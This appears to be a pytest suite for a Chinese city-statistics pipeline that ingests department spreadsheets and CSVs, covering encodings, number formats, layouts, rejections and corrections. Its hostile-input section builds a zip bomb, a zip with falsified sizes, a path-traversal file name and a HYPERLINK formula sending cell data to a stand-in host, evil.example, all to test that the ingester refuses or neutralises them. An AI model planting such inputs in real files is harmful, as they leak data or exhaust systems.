"""Real-world department files, one fixture each: formats and encodings, layouts, numbers as
people write them, files that must be refused whole, and hostile input.

Every test checks what the department or the data engineer would: the verdict of each record,
the reason given, what landed in raw.*, and that records read = accepted + rejected + ignored.
"""
from __future__ import annotations

import csv
import json
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from common.messages import say
from extract.submissions import ingest_file
from tests.helpers import query

pytestmark = pytest.mark.both_engines  # conftest.py: each test on DuckDB and on PostgreSQL

META = [["填报部门 Department", "housing"], ["城市 City", "371000"], ["年度 Year", "2023年"], []]
LONG_HEADER = ["指标代码 indicator_code", "指标名称 indicator_name", "区县代码 district_code",
               "区县名称 district_name", "数值 value", "单位 unit", "质量标记 quality_flag",
               "备注 note"]
CANTEENS = [  # civil affairs, community canteens (处): district name as departments write it
    ["community_canteens", "社区食堂", "", "威海市环翠区", "1,234", "处", "", ""],
    ["community_canteens", "社区食堂", "", "文登", "１２", "处", "", ""],
    ["community_canteens", "社区食堂", "", "荣成市", "约30", "处", "", ""],
    ["community_canteens", "社区食堂", "", "乳山市", "—", "处", "", "暂无统计"],
]


def reconciled(receipt) -> None:
    assert receipt.rows_read == receipt.rows_accepted + receipt.rows_rejected + \
        receipt.rows_ignored, receipt.to_text()


def accepted_values(settings, receipt) -> dict[tuple[str, str], float | None]:
    rows = query(settings,
                 "select indicator_code, district_code, value from raw.submission_rows "
                 "where file_hash = ? and status = 'accepted'", [receipt.file_hash])
    return {(r[0], r[1]): r[2] for r in rows}


def write_csv(path: Path, rows, encoding="utf-8") -> Path:
    with open(path, "w", newline="", encoding=encoding) as fh:
        csv.writer(fh).writerows(rows)
    return path


def write_xlsx(path: Path, rows, merges=(), sheet="填报表") -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    for r in rows:
        ws.append(r)
    for m in merges:
        ws.merge_cells(m)
    wb.save(path)
    return path


def civil_affairs(rows):
    meta = [["填报部门", "市民政局"], ["城市", "威海市"], ["年度", "2023年"], []]
    return [*meta, LONG_HEADER, *rows]


# -- formats and encodings ------------------------------------------------------------------

@pytest.mark.parametrize("name, writer", [
    ("utf8.csv", lambda p, rows: write_csv(p, rows, "utf-8")),
    ("utf8-bom.csv", lambda p, rows: write_csv(p, rows, "utf-8-sig")),
    ("gbk.csv", lambda p, rows: write_csv(p, rows, "gbk")),
    ("gb18030.csv", lambda p, rows: write_csv(p, rows, "gb18030")),
    ("book.xlsx", write_xlsx),
    ("legacy.xls", lambda p, rows: _write_xls(p, rows)),
])
def test_every_format_and_encoding_reads_the_same(settings, tmp_path, name, writer):
    path = writer(tmp_path / name, civil_affairs(CANTEENS))
    receipt = ingest_file(path, settings)
    reconciled(receipt)
    assert (receipt.status, receipt.department_code, receipt.city_code, receipt.year) == (
        "loaded", "civil_affairs", "371000", 2023)
    assert accepted_values(settings, receipt) == {
        ("community_canteens", "371002"): 1234.0,   # 1,234 and 威海市环翠区
        ("community_canteens", "371003"): 12.0,     # full-width １２ and the alias 文登
        ("community_canteens", "371082"): 30.0,     # 约30: accepted, flagged estimated
        ("community_canteens", "371083"): None,     # — : missing, never zero
    }
    flags = dict(query(settings, "select district_code, quality_flag from "
                       "raw.submission_rows where quality_flag is not null"))
    assert flags == {"371082": "estimated"}
    (missing,) = query(settings, "select is_missing, value from raw.submission_rows"
                       " where district_code = '371083'")
    assert missing == (True, None)


def _write_xls(path: Path, rows) -> Path:
    import xlwt

    book = xlwt.Workbook(encoding="utf-8")
    ws = book.add_sheet("填报表")
    for i, row in enumerate(rows):
        for j, value in enumerate(row):
            ws.write(i, j, value)
    book.save(str(path))
    return path


@pytest.mark.parametrize("text, expected", [
    ("1,234.5", 1234.5), ("１２３", 123.0), ("约30", 30.0), ("  88 ", 88.0), ("１，２３４", 1234.0),
    ("—", None), ("-", None), ("/", None), ("无", None),
])  # a blank cell is not reported at all: test_cell_accounting.py
def test_numbers_as_written_and_missing_markers(settings, tmp_path, text, expected):
    """Numbers as clerks write them; the number grammar (extract/numbers.py) reads the whole
    cell or nothing: test_figures_that_are_not_numbers_are_rejected_quoting_them."""
    # a second, filled row: a file whose every value cell is empty is refused as a blank
    # template (test_submission_files.py)
    rows = civil_affairs([["community_canteens", "", "371002", "", text, "处", "", ""],
                          ["community_canteens", "", "371003", "", "5", "处", "", ""]])
    receipt = ingest_file(write_csv(tmp_path / "n.csv", rows), settings)
    reconciled(receipt)
    assert receipt.rows_accepted == 2
    (row,) = query(settings, "select value, is_missing from raw.submission_rows "
                   "where status = 'accepted' and district_code = '371002'")
    assert row == (expected, expected is None)



@pytest.mark.parametrize("text, why", [
    ("12.5①", "is not a number"), ("35¹", "is not a number"), ("12,5", "decimal point"),
    ("1 234", "is not a number"), ("3.5万", "is not a number"), ("12.5%", "% sign"),
    ("#DIV/0!", "Excel error #DIV/0!"), ("#N/A", "Excel error #N/A"), ("1e3", "is not a number"),
    ("12.5.1", "is not a number"), ("(12)", "is not a number"),
])
def test_figures_that_are_not_numbers_are_rejected_quoting_them(settings, tmp_path, text, why):
    """A figure with a mark after it, a decimal comma, a unit, a % sign on an indicator not
    measured in %, an Excel error: rejected quoting the text, in English and Chinese — never
    cut down to the digits it holds."""
    rows = civil_affairs([["community_canteens", "", "371002", "", text, "处", "", ""],
                          ["community_canteens", "", "371003", "", "5", "处", "", ""]])
    receipt = ingest_file(write_csv(tmp_path / "n.csv", rows), settings)
    reconciled(receipt)
    assert receipt.rows_accepted == 1 and receipt.rows_rejected == 1
    (rejected,) = receipt.rejected
    assert why in rejected["reason"] and rejected["value"] == text.strip()
    assert re.search(r"[\u4e00-\u9fff]", rejected["reason"])
    assert query(settings, "select count(*) from raw.submission_rows where status = "
                           "'accepted' and district_code = '371002'") == [(0,)]


def test_a_percent_sign_is_read_for_an_indicator_in_percent(settings, tmp_path):
    rows = [["填报部门", "water"], ["城市", "371000"], ["年度", "2023"], [],
            ["指标代码", "区县名称", "数值"], ["sewage_treatment_rate_pct", "环翠区", "97.5%"],
            ["sewage_treatment_rate_pct", "文登区", "９６．０ ％"]]
    receipt = ingest_file(write_csv(tmp_path / "pct.csv", rows), settings)
    assert receipt.rows_accepted == 2 and receipt.rows_rejected == 0
    assert sorted(v for (v,) in query(settings, "select value from raw.submission_rows where "
                                                "status = 'accepted'")) == [96.0, 97.5]

def test_numbers_stored_as_text_in_a_workbook(settings, tmp_path):
    rows = civil_affairs([["community_canteens", "", 371002, "", "15", "处", "", ""],
                          ["community_canteens", "", "371003", "", 16, "处", "", ""]])
    receipt = ingest_file(write_xlsx(tmp_path / "text.xlsx", rows), settings)
    reconciled(receipt)
    assert accepted_values(settings, receipt) == {("community_canteens", "371002"): 15.0,
                                                  ("community_canteens", "371003"): 16.0}


# -- layouts ----------------------------------------------------------------------------------

def test_title_block_merged_two_row_header_unit_in_header_blank_rows_and_columns(settings,
                                                                                   tmp_path):
    rows = [["威海市2023年老旧小区改造完成情况统计表"], [], *META,
            ["指标", None, "区县", None, None, "面积（万平方米）", "备注"],
            ["代码", "名称", "代码", "名称", None, None, None],
            ["old_estates_renovated_area_10k_m2", "", "371002", "环翠区", None, 41.5, ""],
            [],
            ["old_estates_renovated_area_10k_m2", "", "371003", "文登区", None, 22.25, ""],
            ["old_estates_renovated_area_10k_m2", "", "", "合计", None, 63.75, ""]]
    path = write_xlsx(tmp_path / "merged.xlsx", rows,
                      merges=["A1:G1", "A7:B7", "C7:D7", "F7:F8", "G7:G8"])
    receipt = ingest_file(path, settings)
    reconciled(receipt)
    assert receipt.rows_read == len(rows)
    assert accepted_values(settings, receipt) == {
        ("old_estates_renovated_area_10k_m2", "371002"): 41.5,
        ("old_estates_renovated_area_10k_m2", "371003"): 22.25}
    reasons = {i["row"]: i["reason"] for i in receipt.ignored}
    assert reasons[1] == say("layout_title") and reasons[2] == say("layout_blank")
    assert reasons[7] == reasons[8] == say("layout_header") and reasons[10] == say("layout_blank")
    assert reasons[12].startswith("totals row: totals 63.75 = sum of 2 districts")
    assert not [t for t in receipt.totals if t["mismatch"]]


def test_unit_in_the_header_is_checked_against_the_catalogue(settings, tmp_path):
    rows = [*META, ["指标代码", "区县名称", "数值（平方米）"],
            ["old_estates_renovated_area_10k_m2", "环翠区", 415000]]
    receipt = ingest_file(write_csv(tmp_path / "m2.csv", rows), settings)
    reconciled(receipt)
    (rejected,) = receipt.rejected
    assert rejected["column"] == "unit" and rejected["row"] == 6
    assert "unit '平方米' differs from the catalogue unit '万平方米'" in rejected["reason"]


def test_totals_row_that_does_not_add_up_is_reported_and_never_loaded(settings, tmp_path):
    rows = [*META, LONG_HEADER,
            ["pocket_parks_cum", "", "371002", "", "80", "处", "", ""],
            ["pocket_parks_cum", "", "371003", "", "60", "处", "", ""],
            ["pocket_parks_cum", "", "", "总计", "150", "处", "", ""]]
    receipt = ingest_file(write_csv(tmp_path / "totals.csv", rows), settings)
    reconciled(receipt)
    (total,) = receipt.totals
    assert total["mismatch"] and total["cell"] == "E8"
    assert "totals 150 differs from the sum of the 2 districts 140" in total["verdict"]
    assert "1 totals differ from the sum of the districts" in receipt.message
    assert "MISMATCH" in receipt.to_text()
    assert set(accepted_values(settings, receipt)) == {("pocket_parks_cum", "371002"),
                                                       ("pocket_parks_cum", "371003")}


def test_wide_layout_indicators_as_rows_districts_as_columns(settings, tmp_path):
    rows = [["威海市2023年夜间经济发展情况"],
            ["填报单位：", "市商务局"], ["年度：", "2023"], ["城市：", "威海市"],
            ["序号", "指标名称", "单位", "环翠区", "文登区", "荣成市", "乳山市", "高区", "经区",
             "临港区", "合计"],
            [1, "夜间消费集聚区", "处", 4, 3, 3, 2, 1, 1, "—", 14],
            [2, "城市管理案件处置率", "%", 99, 98, 97, 96, 99, 99, 98, ""]]
    receipt = ingest_file(write_xlsx(tmp_path / "wide.xlsx", rows), settings)
    reconciled(receipt)
    assert (receipt.layout, receipt.department_code, receipt.year) == ("wide", "commerce", 2023)
    values = accepted_values(settings, receipt)
    assert values[("night_economy_clusters", "371002")] == 4.0
    assert values[("night_economy_clusters", "371072")] == 1.0   # 经区, by its alias
    assert values[("night_economy_clusters", "371073")] is None  # —: missing
    assert len(values) == 7
    # One record per district cell; the other department's indicator is refused cell by cell.
    assert receipt.rows_rejected == 7
    assert {r["cell"] for r in receipt.rejected} == {f"{c}7" for c in "DEFGHIJ"}
    assert all("does not answer for indicator city_case_resolution_pct" in r["reason"]
               for r in receipt.rejected)
    (total,) = [t for t in receipt.totals if t["cell"] == "K6"]
    assert total["verdict"].startswith("totals 14: not checked (some district values")
    cells = query(settings, "select cell from raw.submission_rows where "
                  "district_code = '371003' and status = 'accepted'")
    assert cells == [("E6",)]


# -- files refused whole -----------------------------------------------------------------

def _refused(settings, path, fragment):
    receipt = ingest_file(path, settings)
    assert receipt.status == "rejected", receipt.to_text()
    assert fragment in receipt.message
    assert receipt.rows_read == 0
    assert query(settings, "select count(*) from raw.submission_rows") == [(0,)]
    assert query(settings, "select status from raw.submission_files") == [
        ("rejected",)]
    archive = settings.archive_dir / receipt.file_hash[:2] / receipt.file_hash
    saved = json.loads((archive / "receipt.json").read_text(encoding="utf-8"))
    assert saved["status"] == "rejected" and fragment in saved["message"]
    return receipt


def test_empty_file(settings, tmp_path):
    (tmp_path / "empty.xlsx").write_bytes(b"")
    _refused(settings, tmp_path / "empty.xlsx", "the file is empty")


def test_corrupt_workbook(settings, tmp_path):
    good = write_xlsx(tmp_path / "good.xlsx", civil_affairs(CANTEENS)).read_bytes()
    (tmp_path / "cut.xlsx").write_bytes(good[: len(good) // 2])  # a download cut short
    _refused(settings, tmp_path / "cut.xlsx", "save it again from Excel as .xlsx")


def test_password_protected_workbook(settings, tmp_path):
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = write_xlsx(tmp_path / "plain.xlsx", civil_affairs(CANTEENS))
    with open(plain, "rb") as fh, open(tmp_path / "locked.xlsx", "wb") as out:
        OOXMLFile(fh).encrypt("民政2023", out)
    _refused(settings, tmp_path / "locked.xlsx", "the workbook is password-protected")


def test_file_that_matches_no_known_layout(settings, tmp_path):
    rows = [["会议纪要"], ["各部门请于月底前报送数据"], ["序号", "事项", "责任人"], [1, "报送", "张三"]]
    receipt = _refused(settings, write_xlsx(tmp_path / "minutes.xlsx", rows),
                       "no data table found")
    assert "citycheck template" in receipt.message


def test_unsupported_file_type(settings, tmp_path):
    (tmp_path / "figures.pdf").write_bytes(b"%PDF-1.7 ...")
    _refused(settings, tmp_path / "figures.pdf", "unsupported file type '.pdf'")


# -- hostile input ------------------------------------------------------------------------

def test_zip_bomb_named_xlsx_is_refused_without_unpacking(settings, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    good = write_xlsx(tmp_path / "good.xlsx", civil_affairs(CANTEENS))
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                zf.writestr(item, src.read(item))
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            chunk = b" " * (1 << 24)
            for _ in range(20):   # 320 MiB of nothing, about 0.3 MB packed
                fh.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    receipt = _refused(settings, bomb, "zip bomb")
    assert "it was not read" in receipt.message


def _lie_about(path, member: str, declared: int) -> None:
    """Rewrite the sizes a zip's local header and central directory give for `member`."""
    import struct

    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    struct.pack_into("<I", data, info.header_offset + 22, declared)     # local header
    name = member.encode()
    at = data.find(b"PK\x01\x02")
    while at != -1:
        length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46:at + 46 + length]) == name:
            struct.pack_into("<I", data, at + 24, declared)              # central directory
            break
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def test_every_part_is_counted_and_the_shared_strings_are_bounded(settings, tmp_path,
                                                                   monkeypatch):
    """Every part of the zip is unpacked through the budget before the value reader opens the
    file, the parts only it reads too; one that holds more than its directory entry says is
    refused naming the part. The shared strings, which the value reader holds in memory
    several times over (a 252 KB file took the portal to 909 MiB), may take an eighth of the
    budget."""
    from extract.xlsx import SHARED_STRINGS_SHARE

    good = write_xlsx(tmp_path / "good.xlsx", civil_affairs(CANTEENS))
    strings = b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/' \
              b'spreadsheetml/2006/main">' + b"<si><t>" + b"x" * (40 << 20) + b"</t></si></sst>"

    def with_strings(name: str) -> Path:
        out = tmp_path / name
        with zipfile.ZipFile(good) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for item in src.infolist():
                zf.writestr(item, src.read(item))
            zf.writestr("xl/sharedStrings.xml", strings)
        assert out.stat().st_size < 1_000_000
        return out

    lying = with_strings("lying.xlsx")
    _lie_about(lying, "xl/sharedStrings.xml", 4096)
    receipt = _refused(settings, lying, "xl/sharedStrings.xml")
    assert "damaged" in receipt.message and "损坏" in receipt.message

    # 40 MiB of text, within the whole budget (256 MiB) but over its eighth
    assert len(strings) > (256 << 20) // SHARED_STRINGS_SHARE
    honest = with_strings("honest.xlsx")
    receipt = ingest_file(honest, settings)
    assert receipt.status == "rejected" and "shared strings" in receipt.message
    assert "共享字符串" in receipt.message


def test_unpacked_bytes_are_counted_not_just_declared(tmp_path):
    """Past the directory's declared sizes, the reader counts every byte it unpacks."""
    from extract.xlsx import WorkbookError, _Budget, _scan, read_xlsx

    path = write_xlsx(tmp_path / "big.xlsx", civil_affairs(CANTEENS * 200))
    with zipfile.ZipFile(path) as zf:
        declared = sum(i.file_size for i in zf.infolist())
        sheet = zf.getinfo("xl/worksheets/sheet1.xml").file_size
        with pytest.raises(WorkbookError, match="expands to more than 1,000 bytes"):
            _scan(zf, "xl/worksheets/sheet1.xml", _Budget(1000))
    assert sheet > 1000
    with pytest.raises(WorkbookError, match="declares"):
        read_xlsx(path, max_unpacked_bytes=declared - 1)
    assert len(read_xlsx(path, max_unpacked_bytes=declared)[0].rows) == 805


def test_file_far_over_the_size_limit_is_refused_unread_and_not_archived(tmp_path,
                                                                       monkeypatch,
                                                                       portal_url):
    from tests.helpers import make_settings

    monkeypatch.setenv("CITYCHECK_MAX_FILE_BYTES", "100000")
    settings = make_settings(tmp_path / "data", monkeypatch, portal_url)
    path = write_csv(tmp_path / "huge.csv", civil_affairs(CANTEENS * 5000))
    assert path.stat().st_size > 10 * 100_000
    receipt = ingest_file(path, settings)
    assert receipt.status == "rejected" and "over the limit of 100,000" in receipt.message
    assert receipt.archived_path is None
    archive = settings.archive_dir / receipt.file_hash[:2] / receipt.file_hash
    assert sorted(p.name for p in archive.iterdir()) == ["receipt.json", "receipt.txt"]


def test_file_name_with_path_separators_writes_nothing_outside_the_data_folders(settings,
                                                                                 tmp_path):
    inbox = settings.inbox_dir
    evil = inbox / "报表\\..\\..\\..\\evil ..csv"  # a legal name on Linux
    write_csv(evil, civil_affairs(CANTEENS))
    before = {p for p in tmp_path.rglob("*")}
    from extract.submissions import ingest_inbox

    (receipt,) = ingest_inbox(settings)
    assert receipt.status == "loaded" and receipt.file_name == evil.name
    created = {p for p in tmp_path.rglob("*")} - before
    assert created and all(settings.data_dir in p.parents for p in created)
    archived = Path(receipt.archived_path)
    assert archived.resolve().parent == settings.archive_dir / receipt.file_hash[:2] / \
        receipt.file_hash
    assert "/" not in archived.name and "\\" not in archived.name
    assert not evil.exists()  # it left the inbox for the archive


def test_formula_in_a_text_column_is_neutralised_and_reported(settings, tmp_path):
    link = '=HYPERLINK("http://evil.example/steal?d="&A6,"点击查看")'
    rows = civil_affairs([
        ["community_canteens", "社区食堂", "371002", "环翠区", 9, "处", "", link],
        ["community_canteens", "社区食堂", "371003", "文登区", "=2+3", "处", "", ""],
        ["community_canteens", "社区食堂", "371082", "荣成市", 4, "处", "", "@SUM(1+1)"],
    ])
    receipt = ingest_file(write_xlsx(tmp_path / "formula.xlsx", rows), settings)
    reconciled(receipt)
    notes = {n["cell"]: n for n in receipt.neutralised}
    assert notes["H6"]["text"] == "'" + link and notes["H8"]["text"] == "'@SUM(1+1)"
    stored = dict(query(settings, "select cell, note_text from "
                        "raw.submission_rows where note_text <> ''"))
    assert stored == {"E6": "'" + link, "E8": "'@SUM(1+1)"}
    # a formula in the value column has no saved result in this file: rejected, not guessed
    (rejected,) = receipt.rejected
    assert rejected["cell"] == "E7" and "formula without a saved result" in rejected["reason"]
    assert "Formulas neutralised" in receipt.to_text()


# -- receipts and corrections ---------------------------------------------------------------

def test_correction_supersedes_and_the_receipt_lists_what_changed(settings, tmp_path):
    first = ingest_file(write_csv(tmp_path / "v1.csv", civil_affairs(CANTEENS)), settings)
    corrected = [r[:] for r in CANTEENS]
    corrected[0][4] = "1,240"          # 环翠区 corrected
    corrected[3][4] = "8"              # 乳山市 now has a figure
    second = ingest_file(write_csv(tmp_path / "v2.csv", civil_affairs(corrected)), settings)
    reconciled(second)
    changed = {(s["district_code"], s["earlier_value"], s["value"]) for s in second.superseded}
    assert changed == {("371002", 1234.0, 1240.0), ("371083", None, 8.0)}
    assert second.restated_unchanged == 2
    assert all(s["earlier_file"] == "v1.csv" for s in second.superseded)
    assert "2 earlier values corrected" in second.message
    text = second.to_text()
    assert "community_canteens 371002 2023: 1234 → 1240" in text and "v1.csv" in text
    assert first.superseded == []


def test_ingest_json_prints_a_machine_readable_receipt(settings, tmp_path, capsys):
    from citycheck.cli import main

    path = write_csv(tmp_path / "民政局.csv", civil_affairs(
        [*CANTEENS, ["community_canteens", "", "", "环翠县", "3", "处", "", ""]]))
    assert main(["ingest", str(path), "--json"]) == 0
    receipt = json.loads(capsys.readouterr().out)
    assert receipt["rows_read"] == receipt["rows_accepted"] + receipt["rows_rejected"] + \
        receipt["rows_ignored"] == 10
    (rejected,) = receipt["rejected"]
    assert (rejected["sheet"], rejected["row"], rejected["cell"], rejected["column"],
            rejected["value"]) == ("民政局.csv", 10, "E10", "district_name", "环翠县")
    assert "did you mean 环翠区" in rejected["reason"]


# -- the template -------------------------------------------------------------------------

def test_template_round_trip(settings, tmp_path):
    from extract.template import write_template

    path = write_template(tmp_path / "t.xlsx", "water", 2023, "371000")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["填报表", "选项", "填报说明"]
    ws = wb["填报表"]
    kinds = {dv.type for dv in ws.data_validations.dataValidation}
    assert kinds == {"list", "decimal"}
    decimal = next(dv for dv in ws.data_validations.dataValidation if dv.type == "decimal")
    assert (decimal.formula1, decimal.formula2) == ("0", "100")  # the indicator's valid range
    assert "请在“填报表”工作表的“数值”列填写数字" in wb["填报说明"]["A3"].value
    rows = list(ws.iter_rows(min_row=7, values_only=True))
    assert [r[2] for r in rows] == ["371002", "371003", "371082", "371083", "371071", "371072",
                                    "371073"]
    for i, row in enumerate(ws.iter_rows(min_row=7, max_col=5)):  # the department fills in
        row[4].value = 95 + i * 0.5
    wb.save(path)
    receipt = ingest_file(path, settings)
    reconciled(receipt)
    assert (receipt.status, receipt.rows_accepted, receipt.rows_rejected) == ("loaded", 7, 0)
    assert receipt.template_version == "citycheck-long-1"
    assert accepted_values(settings, receipt)[("sewage_treatment_rate_pct", "371073")] == 98.0


def test_template_cli_refuses_an_unknown_department(tmp_path, capsys):
    from citycheck.cli import main

    assert main(["template", "--department", "water_bureau", "--year", "2023",
                 "--output", str(tmp_path / "t.xlsx")]) == 1
    assert "unknown department 'water_bureau'; known codes:" in capsys.readouterr().err
    assert not (tmp_path / "t.xlsx").exists()


def test_inbox_is_configurable(tmp_path, monkeypatch, portal_url):
    from extract.submissions import ingest_inbox
    from tests.helpers import make_settings

    monkeypatch.setenv("CITYCHECK_INBOX_DIR", str(tmp_path / "shared-drive" / "报送"))
    settings = make_settings(tmp_path / "data", monkeypatch, portal_url)
    assert settings.inbox_dir == tmp_path / "shared-drive" / "报送"
    write_csv(settings.inbox_dir / "a.csv", civil_affairs(CANTEENS))
    (settings.inbox_dir / "~$a.xlsx").write_bytes(b"lock file of an open workbook")
    (receipt,) = ingest_inbox(settings)
    assert receipt.file_name == "a.csv" and receipt.status == "loaded"
    assert os.listdir(settings.inbox_dir) == ["~$a.xlsx"]
